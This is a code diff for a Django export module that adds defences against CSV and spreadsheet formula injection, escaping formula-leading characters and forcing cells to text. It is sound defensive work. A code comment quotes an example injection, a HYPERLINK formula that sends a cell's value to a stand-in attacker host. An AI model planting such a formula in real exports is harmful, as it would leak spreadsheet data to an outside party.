@@ -11,6 +11,7 @@ from typing import Any
 
 from django.http import HttpResponse, StreamingHttpResponse
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
 
 EXPORT_FORMATS = ("csv", "xlsx")
 
@@ -50,10 +51,43 @@ class _Echo:
         return value
 
 
-def _csv_cell(value):
+# OWASP's advice on CSV injection: a spreadsheet reads a cell that starts with one of these as a
+# formula (or, for tab and carriage return, a cell that hides one after them). A supplier named
+# '=HYPERLINK("http://evil.example/?"&A1,"Click")' must reach the reader as that text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_csv_cell(value):
+    """A value as a CSV cell no spreadsheet evaluates: text that would start a formula gets a
+    leading apostrophe (which spreadsheets read as "this is text"); numbers stay numbers."""
     if isinstance(value, decimal.Decimal):
         return f"{value:.2f}"
-    return "" if value is None else value
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def append_inert_row(sheet, values):
+    """Append `values` to an openpyxl sheet with every text stored as text: openpyxl would
+    otherwise write a value starting with "=" as a live formula. Decimals become numbers."""
+    values = [float(value) if isinstance(value, decimal.Decimal) else value for value in values]
+    if sheet.parent.write_only:
+        sheet.append(
+            [_text_cell(sheet, value) if isinstance(value, str) else value for value in values]
+        )
+        return
+    sheet.append(values)
+    for cell in sheet[sheet.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
+
+
+def _text_cell(sheet, value: str) -> WriteOnlyCell:
+    cell = WriteOnlyCell(sheet, value=value)
+    cell.data_type = "s"
+    return cell
 
 
 def export_response(export_format: str, filename: str, headers: list[str], rows):
@@ -63,19 +97,17 @@ def export_response(export_format: str, filename: str, headers: list[str], rows)
 
         def lines():
             yield "\ufeff"  # so Excel opens UTF-8 names correctly
-            yield writer.writerow(headers)
+            yield writer.writerow([inert_csv_cell(header) for header in headers])
             for row in rows:
-                yield writer.writerow([_csv_cell(value) for value in row])
+                yield writer.writerow([inert_csv_cell(value) for value in row])
 
         response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
     elif export_format == "xlsx":
         workbook = Workbook(write_only=True)
         sheet = workbook.create_sheet(title=filename[:31])
-        sheet.append(headers)
+        append_inert_row(sheet, headers)
         for row in rows:
-            sheet.append(
-                [float(value) if isinstance(value, decimal.Decimal) else value for value in row]
-            )
+            append_inert_row(sheet, row)
         response = HttpResponse(
             content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
         )
